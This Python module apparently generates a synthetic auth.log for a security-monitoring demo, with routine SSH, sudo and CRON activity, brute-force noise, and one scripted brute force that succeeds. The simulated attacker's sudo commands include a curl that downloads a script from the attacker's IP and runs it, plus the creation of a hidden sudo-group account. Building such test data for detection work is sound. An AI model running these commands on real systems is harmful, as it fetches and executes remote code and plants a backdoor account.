"""``auth.log`` for ``lightsoc demo``: classic RFC 3164 syslog lines from sshd,
sudo, su, CRON and systemd-logind on host ``web1`` (server clock in UTC).

Normal key-based logins from the office, background internet noise, and one
password brute force that ends in a successful login followed by sudo.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import UTC, datetime

from lightsoc.demo_web import ip_from_prefix

HOST = "web1"
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
INVALID_USERS = (
    "admin",
    "test",
    "user",
    "ubuntu",
    "oracle",
    "postgres",
    "git",
    "ftpuser",
    "pi",
    "guest",
    "support",
    "mysql",
    "hadoop",
    "deployer",
    "jenkins",
    "minecraft",
    "es",
    "steam",
    "nagios",
    "www",
    "dev",
    "tomcat",
    "vagrant",
    "ansible",
    "teamspeak",
)
NOISE_PREFIXES = (
    (61, 177, 177),
    (43, 134, 134),
    (122, 51, 51),
    (180, 101, 101),
    (170, 64, 64),
    (165, 232, 232),
    (143, 198, 198),
    (14, 161, 161),
    (197, 210, 210),
    (36, 72, 72),
    (222, 186, 186),
    (181, 1, 1),
)
OFFICE_ADMIN = "10.20.1.23"
CI_RUNNER = "10.20.5.10"
COMPROMISED_USER = "backup"
COMPROMISED_UID = 1002
USERS = {"admin": 1000, "deploy": 1001, COMPROMISED_USER: COMPROMISED_UID}
KEYS = {
    "admin": "RSA SHA256:k3Yb1c0mI8wq6pT0V2f9dXJm1aPz6YQy8rLrW4cH1sE",
    "deploy": "ED25519 SHA256:Qm9uZHNjYXBlLWRlcGxveS1rZXktMjAyNC0wNS0wMQ",
}


@dataclass(frozen=True)
class SshTruth:
    """What the auth log contains about the brute force and the noise."""

    attacker_ip: str
    user: str
    failures: int
    first_failure: float
    success: float
    sudo_commands: tuple[str, ...]
    noise_ips: tuple[str, ...]


def syslog_line(ts: float, prog: str, pid: int | None, msg: str) -> bytes:
    """``Mmm dd hh:mm:ss host prog[pid]: msg`` in UTC, English month names."""
    d = datetime.fromtimestamp(int(ts), UTC)
    tag = f"{prog}[{pid}]" if pid is not None else prog
    return (
        f"{MONTHS[d.month - 1]} {d.day:>2} {d.hour:02d}:{d.minute:02d}:{d.second:02d} "
        f"{HOST} {tag}: {msg}\n"
    ).encode()


class AuthLog:
    """Collects ``(ts, line, kind)`` records for auth.log."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.records: list[tuple[float, bytes, str | None]] = []
        self.session = rng.randint(200, 900)

    def log(self, ts: float, prog: str, pid: int | None, msg: str, kind: str | None = None) -> None:
        self.records.append((ts, syslog_line(ts, prog, pid, msg), kind))

    def pid(self) -> int:
        return self.rng.randint(2_000, 65_000)

    def login(
        self, t: float, user: str, ip: str, method: str = "publickey", kind: str | None = None
    ) -> float:
        """An accepted login with its PAM / logind lines; returns the session's end time."""
        rng, pid, port = self.rng, self.pid(), self.rng.randint(32_768, 60_999)
        uid = USERS[user]
        suffix = f": {KEYS[user]}" if method == "publickey" else ""
        self.log(
            t, "sshd", pid, f"Accepted {method} for {user} from {ip} port {port} ssh2{suffix}", kind
        )
        self.log(
            t,
            "sshd",
            pid,
            f"pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)",
            kind,
        )
        self.session += 1
        self.log(
            t + 0.02, "systemd-logind", 612, f"New session {self.session} of user {user}.", kind
        )
        end = t + rng.uniform(60, 1500)
        self.log(
            end,
            "sshd",
            pid,
            f"Received disconnect from {ip} port {port}:11: disconnected by user",
            kind,
        )
        self.log(end, "sshd", pid, f"Disconnected from user {user} {ip} port {port}", kind)
        self.log(end, "sshd", pid, f"pam_unix(sshd:session): session closed for user {user}", kind)
        self.log(
            end + 0.02,
            "systemd-logind",
            612,
            f"Session {self.session} logged out. Waiting for processes to exit.",
            kind,
        )
        return end

    def sudo(
        self, t: float, user: str, command: str, tty: str = "pts/0", kind: str | None = None
    ) -> None:
        """A sudo command and its PAM session."""
        self.log(
            t,
            "sudo",
            None,
            f"{user:>8} : TTY={tty} ; PWD=/home/{user} ; USER=root ; COMMAND={command}",
            kind,
        )
        self.log(
            t,
            "sudo",
            None,
            "pam_unix(sudo:session): session opened for user root(uid=0) "
            f"by {user}(uid={USERS[user]})",
            kind,
        )
        self.log(
            t + self.rng.uniform(0.5, 20),
            "sudo",
            None,
            "pam_unix(sudo:session): session closed for user root",
            kind,
        )

    def failed_connection(
        self, t: float, ip: str, user: str, attempts: int, kind: str | None = None
    ) -> tuple[float, int]:
        """One connection with ``attempts`` failed passwords; returns (end time, failures)."""
        rng, pid, port = self.rng, self.pid(), self.rng.randint(32_768, 60_999)
        valid = user in USERS or user == "root"
        who = user if valid else f"invalid user {user}"
        if not valid:
            self.log(t, "sshd", pid, f"Invalid user {user} from {ip} port {port}", kind)
            self.log(t + 0.1, "sshd", pid, "pam_unix(sshd:auth): check pass; user unknown", kind)
        rest = "" if not valid else f"  user={user}"
        self.log(
            t + 0.1,
            "sshd",
            pid,
            "pam_unix(sshd:auth): authentication failure; logname= "
            f"uid=0 euid=0 tty=ssh ruser= rhost={ip}{rest}",
            kind,
        )
        for _ in range(attempts):
            t += rng.uniform(1.5, 3.5)
            self.log(t, "sshd", pid, f"Failed password for {who} from {ip} port {port} ssh2", kind)
        auth = "authenticating user " + user if valid else who
        if attempts >= 6:
            self.log(
                t,
                "sshd",
                pid,
                f"error: maximum authentication attempts exceeded for {who} "
                f"from {ip} port {port} ssh2 [preauth]",
                kind,
            )
            self.log(
                t,
                "sshd",
                pid,
                f"Disconnecting {auth} {ip} port {port}: Too many "
                "authentication failures [preauth]",
                kind,
            )
            self.log(
                t,
                "sshd",
                pid,
                "PAM 5 more authentication failures; logname= uid=0 euid=0 "
                f"tty=ssh ruser= rhost={ip}{rest}",
                kind,
            )
        else:
            self.log(
                t + 0.2,
                "sshd",
                pid,
                f"Received disconnect from {ip} port {port}:11: Bye Bye [preauth]",
                kind,
            )
            self.log(
                t + 0.2, "sshd", pid, f"Disconnected from {auth} {ip} port {port} [preauth]", kind
            )
        return t + 0.2, attempts


def _routine(a: AuthLog, start: float, end: float) -> None:
    """Deploys, admin sessions with sudo/su, and hourly CRON."""
    rng = a.rng
    t = start + rng.uniform(600, 3 * 3600)
    while t < end:
        out = a.login(t, "deploy", CI_RUNNER)
        a.sudo(t + rng.uniform(5, 30), "deploy", "/usr/bin/systemctl reload nginx", tty="unknown")
        t = max(out, t) + rng.uniform(2.5 * 3600, 4 * 3600)
    t = start + rng.uniform(1800, 5400)
    cmds = (
        "/usr/bin/tail -n 200 /var/log/nginx/error.log",
        "/usr/bin/apt-get update",
        "/usr/bin/systemctl status nginx",
        "/usr/bin/journalctl -u sshd --since today",
        "/usr/bin/df -h",
    )
    while t < end:
        local_hour = int((t // 3600 + 8) % 24)
        if 9 <= local_hour < 19:
            out = a.login(t, "admin", OFFICE_ADMIN)
            for _ in range(rng.randint(1, 3)):
                a.sudo(t + rng.uniform(20, max(30, out - t - 10)), "admin", rng.choice(cmds))
            if rng.random() < 0.3:
                ts, pid = t + rng.uniform(10, 50), a.pid()
                a.log(ts, "su", pid, "(to root) admin on pts/0")
                a.log(
                    ts,
                    "su",
                    pid,
                    "pam_unix(su:session): session opened for user root(uid=0) by admin(uid=1000)",
                )
                a.log(
                    ts + rng.uniform(30, 300),
                    "su",
                    pid,
                    "pam_unix(su:session): session closed for user root",
                )
        t += rng.uniform(1.5 * 3600, 3 * 3600)
    t = start - start % 3600 + 17 * 60
    while t < end:
        if t >= start:
            pid = a.pid()
            a.log(
                t,
                "CRON",
                pid,
                "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
            )
            a.log(t + 1, "CRON", pid, "pam_unix(cron:session): session closed for user root")
        t += 3600


def _noise(a: AuthLog, start: float, end: float) -> list[str]:
    """Internet background: a handful of failed logins per IP, banner grabs."""
    rng, ips = a.rng, []
    n = max(3, round(28 * (end - start) / 86_400))
    for _ in range(n):
        pfx = rng.choice(NOISE_PREFIXES)
        ip = ip_from_prefix(rng, *pfx)
        ips.append(ip)
        t = start + rng.random() * (end - start - 120)
        for _ in range(rng.randint(1, 2)):
            user = "root" if rng.random() < 0.4 else rng.choice(INVALID_USERS)
            t, _ = a.failed_connection(t, ip, user, rng.randint(1, 2))
            t += rng.uniform(5, 60)
        if rng.random() < 0.3:
            port, pid = rng.randint(32_768, 60_999), a.pid()
            a.log(t, "sshd", pid, "kex_exchange_identification: Connection closed by remote host")
            a.log(t, "sshd", pid, f"Connection closed by {ip} port {port}")
    return ips


def _brute_force(
    a: AuthLog, start: float, end: float
) -> tuple[str, int, float, float, tuple[str, ...]]:
    """~20 minutes of password guessing that ends with a login as ``backup`` and sudo."""
    rng, kind = a.rng, "ssh_brute_force"
    ip = f"218.92.0.{rng.randint(100, 250)}"
    room = max(0.0, end - start - 2700)  # 20 min of guessing + the attacker's session
    t = start + room * 0.62
    first, failures = t, 0
    for _ in range(rng.randint(55, 62)):
        user = "root" if rng.random() < 0.45 else rng.choice(INVALID_USERS)
        t, n = a.failed_connection(
            t, ip, user, 6 if rng.random() < 0.8 else rng.randint(2, 5), kind
        )
        failures += n
        t += rng.uniform(2, 9)
    t, n = a.failed_connection(t, ip, COMPROMISED_USER, 3, kind)
    failures += n
    t += rng.uniform(1, 3)
    success = t
    a.login(t, COMPROMISED_USER, ip, method="password", kind=kind)
    cmds = (
        f"/usr/bin/curl -fsSL http://{ip}:8080/x.sh -o /tmp/.x.sh",
        "/bin/bash /tmp/.x.sh",
        "/usr/sbin/useradd -m -s /bin/bash -G sudo sysupdate",
    )
    t2 = t + rng.uniform(40, 90)
    for cmd in cmds:
        a.sudo(t2, COMPROMISED_USER, cmd, tty="pts/1", kind=kind)
        t2 += rng.uniform(5, 25)
    return ip, failures, first, success, cmds


def auth_log(
    rng: random.Random, start: float, end: float
) -> tuple[list[tuple[float, bytes, str | None]], SshTruth]:
    """Records for auth.log in ``[start, end)`` (unsorted) and the ground truth."""
    a = AuthLog(rng)
    _routine(a, start, end)
    noise = _noise(a, start, end)
    ip, failures, first, success, cmds = _brute_force(a, start, end)
    return a.records, SshTruth(ip, COMPROMISED_USER, failures, first, success, cmds, tuple(noise))
